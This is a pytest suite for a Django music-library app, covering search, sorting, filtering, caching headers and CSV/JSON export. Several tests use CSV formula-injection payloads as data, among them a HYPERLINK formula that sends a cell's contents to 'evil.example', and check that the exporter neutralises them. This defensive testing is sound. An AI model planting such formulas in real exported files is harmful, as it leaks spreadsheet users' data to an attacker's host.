"""Search, sort, filter and export over the whole (cached) library."""

import csv
import io
import json
from http import HTTPStatus

import pytest
from django.urls import reverse

from harness.workers import drain
from library.query import LibraryQuery
from library.search import fold
from tests.helpers import sign_in
from tests.library.conftest import FEW

pytestmark = pytest.mark.django_db

LIBRARY = reverse("library:saved_tracks")


@pytest.fixture
def few(client, emulator):
    """The demo user with 42 songs: the library is complete after the first call."""
    emulator.add_track(emulator.users[FEW].id, name="Ça Plane Pour Moi", artists=("Plastic Bertrand",))
    emulator.add_track(emulator.users[FEW].id, name="Zzz Last Title", artists=("Ádám",), explicit=True)
    sign_in(client, user_index=FEW)
    return client


def _names(response) -> list[str]:
    return [track.name for track in response.context["page"].object_list]


def test_search_is_case_and_accent_insensitive(few):
    assert _names(few.get(LIBRARY, {"q": "ca plane"})) == ["Ça Plane Pour Moi"]
    assert _names(few.get(LIBRARY, {"q": "PLASTIC"})) == ["Ça Plane Pour Moi"]
    assert _names(few.get(LIBRARY, {"q": "adam"})) == ["Zzz Last Title"]


def test_search_matches_album_and_shows_a_no_match_state(few, emulator):
    album = emulator.library(emulator.users[FEW].id)[10].track.album.name

    assert all(t.album == album for t in few.get(LIBRARY, {"q": album}).context["page"].object_list)
    empty = few.get(LIBRARY, {"q": "no such song anywhere"})
    assert empty.status_code == HTTPStatus.OK
    assert b"No songs match" in empty.content


@pytest.mark.parametrize("sort", ["title", "artist", "album", "duration"])
def test_sort_both_directions(few, sort):
    ascending = few.get(LIBRARY, {"sort": sort, "order": "asc"}).context["page"].object_list
    descending = few.get(LIBRARY, {"sort": sort, "order": "desc"}).context["page"].object_list
    key = {
        "title": lambda t: fold(t.name),
        "artist": lambda t: fold(t.artists[0]),
        "album": lambda t: fold(t.album),
        "duration": lambda t: t.duration_ms,
    }[sort]

    assert [key(t) for t in ascending] == sorted(key(t) for t in ascending)
    assert [key(t) for t in descending] == sorted((key(t) for t in descending), reverse=True)


def test_date_added_ascending_reverses_spotifys_order(few):
    newest_first = _names(few.get(LIBRARY))
    oldest_first = _names(few.get(LIBRARY, {"sort": "added", "order": "asc"}))

    assert oldest_first == list(reversed(newest_first))


def test_explicit_filter(few):
    only = few.get(LIBRARY, {"explicit": "only"}).context["page"].object_list
    hidden = few.get(LIBRARY, {"explicit": "hide"}).context["page"].object_list

    assert only and all(t.explicit for t in only)
    assert hidden and not any(t.explicit for t in hidden)
    assert len(only) + len(hidden) == 44


@pytest.mark.django_db(transaction=True)  # loading uses worker threads
def test_view_lives_in_the_url_and_pager_links_keep_it(large_client, settings):
    large_client.get(LIBRARY)
    drain()  # the load, on a worker

    response = large_client.get(LIBRARY, {"q": "a", "sort": "title", "order": "desc"})

    html = response.content.decode()
    assert 'value="a"' in html
    assert "?q=a&amp;sort=title-desc&amp;page=2" in html


def test_querystring_leaves_defaults_out():
    query = LibraryQuery(q="x", sort="title", order="asc")

    assert query.querystring(page="2") == "?q=x&sort=title&page=2"
    assert query.querystring(order="desc") == "?q=x&sort=title-desc"
    assert query.querystring(size=100) == "?q=x&sort=title&size=100"
    assert LibraryQuery().querystring() == "?"
    assert LibraryQuery(sort="added", order="asc").querystring() == "?sort=added-asc"


def test_unknown_parameters_fall_back_to_defaults(few):
    response = few.get(LIBRARY, {"sort": "evil", "order": "sideways", "explicit": "maybe", "page": "-1"})

    assert response.status_code == HTTPStatus.OK
    query = response.context["query"]
    assert (query.sort, query.order, query.explicit, query.page) == ("added", "desc", "", "1")


def test_csv_export_has_every_song_with_non_latin_text_intact(few, emulator):
    response = few.get(reverse("library:export_csv"))

    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8"))))
    songs = emulator.library(emulator.users[FEW].id)
    assert len(rows) == len(songs) == 44
    assert list(rows[0]) == [
        "track",
        "artists",
        "album",
        "release_date",
        "duration",
        "duration_ms",
        "explicit",
        "added_at",
        "spotify_uri",
        "spotify_url",
        "isrc",
    ]
    by_uri = {row["spotify_uri"]: row for row in rows}
    for saved in songs:
        row = by_uri[f"spotify:track:{saved.track.id}"]
        assert row["track"] == saved.track.name
        assert row["artists"].split("; ") == [artist.name for artist in saved.track.artists]
        assert row["isrc"] == saved.track.isrc
        assert row["spotify_url"] == f"https://open.spotify.com/track/{saved.track.id}"
    assert rows[0]["artists"] == "Ádám" and rows[0]["explicit"] == "yes"  # the newest song
    assert any(not row["track"].isascii() for row in rows)


def test_json_export_matches_the_csv(few):
    data = json.loads(few.get(reverse("library:export_json")).getvalue())
    rows = list(csv.DictReader(io.StringIO(few.get(reverse("library:export_csv")).getvalue().decode())))

    assert data["count"] == len(data["tracks"]) == len(rows)
    assert [t["track"] for t in data["tracks"]] == [row["track"] for row in rows]
    assert data["tracks"][0]["added_at"].endswith("Z")


@pytest.mark.django_db(transaction=True)
def test_export_of_a_partly_loaded_library_follows_the_load(large_client, emulator):
    large_client.get(LIBRARY)  # first page only

    preparing = large_client.get(reverse("library:export_csv"))
    drain()  # the load, on a worker
    response = large_client.get(reverse("library:export_csv"))

    assert preparing.status_code == HTTPStatus.ACCEPTED
    assert len(list(csv.DictReader(io.StringIO(response.getvalue().decode())))) == 320


def test_csv_cells_that_look_like_formulas_stay_text(client, emulator):
    emulator.add_track(
        emulator.users[FEW].id, name='=HYPERLINK("http://evil.example","x")', artists=("@risk",)
    )
    sign_in(client, user_index=FEW)

    rows = list(csv.DictReader(io.StringIO(client.get(reverse("library:export_csv")).getvalue().decode())))

    # The apostrophe, then a word joiner (tests/library/test_csv_injection.py says why).
    assert rows[0]["track"] == '\'\u2060=HYPERLINK("http://evil.example","x")'
    assert rows[0]["artists"] == "'\u2060@risk"


@pytest.mark.parametrize(
    "url",
    [reverse("library:saved_tracks"), reverse("library:export_csv"), reverse("library:export_json")],
)
def test_private_pages_are_never_cached(few, url):
    response = few.get(url)

    assert response.status_code == HTTPStatus.OK
    assert {"private", "no-store"} <= {part.strip() for part in response["Cache-Control"].split(",")}


def test_the_load_endpoint_is_never_cached(few):
    response = few.post(reverse("library:load"), HTTP_ACCEPT="application/json")

    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


@pytest.mark.parametrize(
    "params",
    [{"page": "9" * 4301}, {"page": "1" * 7}, {"page": "٣"}, {"q": "x" * 100_000}, {"sort": "y" * 5000}],
    ids=["page-4301-digits", "page-7-digits", "page-arabic-digit", "q-100k", "sort-5k"],
)
def test_oversized_parameters_never_give_a_500(few, params):
    response = few.get(LIBRARY, params)

    assert response.status_code == HTTPStatus.OK
    assert response.context["query"].page == "1" or "page" not in params
    assert len(response.context["query"].q) <= 200


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '\x00=HYPERLINK("https://evil.example/?"&C2,"click me")',
            '\'\u2060=HYPERLINK("https://evil.example/?"&C2,"click me")',
        ),
        ("\x00=1+1", "'\u2060=1+1"),
        ("  +1", "'  \u2060+1"),
        ("\t-2", "'\u2060-2"),
        ("\r\n@SUM(A1)", "'\u2060@SUM(A1)"),
        (";=3+3;", ";\u2060=3+3;"),  # read with ';' as the separator, '=3+3' would start a cell
        ("Tyler, The Creator", "Tyler, The Creator"),
        ("Beyoncé: Halo", "Beyoncé: Halo"),
        ("a\x07b", "ab"),
    ],
)
def test_no_csv_cell_can_become_a_formula(value, cell):
    from library.export import cell as _cell

    assert _cell(value) == cell


def test_every_csv_field_is_quoted(client, emulator):
    emulator.add_track(emulator.users[FEW].id, name="Plain", artists=(";=3+3;",))
    sign_in(client, user_index=FEW)

    lines = client.get(reverse("library:export_csv")).getvalue().decode().splitlines()

    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    assert '";\u2060=3+3;"' in lines[1]  # quoted, and neutralised after the inner separator
